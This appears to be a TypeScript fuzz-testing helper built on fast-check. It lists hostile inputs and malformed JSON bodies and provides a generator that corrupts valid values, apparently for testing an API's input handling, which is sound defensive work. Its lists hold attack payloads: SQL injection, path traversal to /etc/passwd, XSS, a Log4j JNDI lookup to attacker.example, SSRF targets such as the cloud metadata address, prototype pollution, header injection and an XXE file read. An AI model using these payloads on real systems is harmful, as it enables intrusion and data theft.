import fc from 'fast-check'

/** Texts that have broken parsers, databases, logs and pages before. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uFEFF',
  '\u202Etxt.exe',
  'ﷺ'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(20),
  "'; DROP TABLE shares; --",
  "' OR 1=1 --",
  '$1',
  '%',
  '_',
  '\\',
  '../../../../etc/passwd',
  '..%2f..%2f',
  '<script>alert(1)</script>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what Log4j would have run.
  '${jndi:ldap://attacker.example/a}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  'true',
  '-1',
  '1e400',
  '0x10',
  '９９',
  '9223372036854775808',
  '2026-02-30',
  '2026-02-30T25:61:61Z',
  '+275760-09-13T00:00:00.001Z',
  'http://127.0.0.1:5432/',
  'https://[::1]/',
  'https://169.254.169.254/latest/meta-data/',
  'https://user:word@hooks.example/',
  'javascript:alert(1)',
  'x'.repeat(5000),
  '\r\nset-cookie: a=b',
  'occupation-',
  'occupation-47-4091',
]

/** Values of every kind where another kind was expected. */
export const hostileValues: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -1,
    0.5,
    1e308,
    -1e308,
    2 ** 31,
    2 ** 53,
    5e-324,
    [],
    {},
    [[]],
    [null],
    JSON.parse('{"__proto__":{"admin":true}}'),
    { constructor: { prototype: { admin: true } } },
    { length: 1e9 },
    Array.from({ length: 300 }, () => 'x'),
    Array.from({ length: 60 }, () => ({})),
  ),
  fc.jsonValue({ maxDepth: 3 }),
)

/** Bodies that are no JSON, or hardly. */
export const hostileBodies: readonly string[] = [
  '',
  ' ',
  '{',
  '}',
  '[',
  '{"a":1,}',
  "{'a':1}",
  'null',
  'true',
  '"text"',
  '0',
  '[]',
  '{}',
  '\uFEFF{}',
  '{"a":1e999}',
  '{"a":-0}',
  '{"a":NaN}',
  '{"a":"\\ud800"}',
  '{"a":1,"a":2}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"admin":true}}}',
  '['.repeat(20_000),
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
  `{"a":"${'x'.repeat(70_000)}"}`,
  'a=1&b=2',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
]

/** Where something stands in a value: names and places from the outside in. */
type Path = readonly (string | number)[]

/** One thing about a value made wrong: a field missing, one too many, another kind or a hostile text in a place, a list far too long. */
export function spoilt(value: unknown): fc.Arbitrary<unknown> {
  const paths = pathsOf(value)
  return fc
    .record({ path: fc.constantFrom(...paths), how: fc.constantFrom(...hows), hostile: hostileValues })
    .map(({ path, how, hostile }) => changed(value, path, (one) => how(one, hostile)))
}

const gone = Symbol('gone')
const hows: readonly ((one: unknown, hostile: unknown) => unknown)[] = [
  () => gone,
  (_, hostile) => hostile,
  (_, hostile) => hostile,
  (one, hostile) => (one !== null && typeof one === 'object' ? { ...one, surplus: hostile } : hostile),
  (one) => (Array.isArray(one) ? Array.from({ length: 200 }, () => one[0] ?? null) : [one]),
  (one) => (typeof one === 'number' ? String(one) : typeof one === 'string' ? one.repeat(90) : one),
  (one) => (typeof one === 'number' ? -one * 1e6 : typeof one === 'string' ? `${one}\u0000` : null),
]

function pathsOf(value: unknown, path: Path = []): Path[] {
  if (value === null || typeof value !== 'object') return [path]
  return [path, ...Object.entries(value).flatMap(([name, one]) => pathsOf(one, [...path, name]))]
}

function changed(value: unknown, [first, ...rest]: Path, change: (one: unknown) => unknown): unknown {
  if (first === undefined) {
    const made = change(value)
    return made === gone ? null : made
  }
  const entries = Object.entries(value as object).flatMap(([name, one]) => {
    if (name !== String(first)) return [[name, one] as const]
    if (rest.length > 0) return [[name, changed(one, rest, change)] as const]
    const made = change(one)
    return made === gone ? [] : [[name, made] as const]
  })
  return Array.isArray(value) ? entries.map(([, one]) => one) : Object.fromEntries(entries)
}
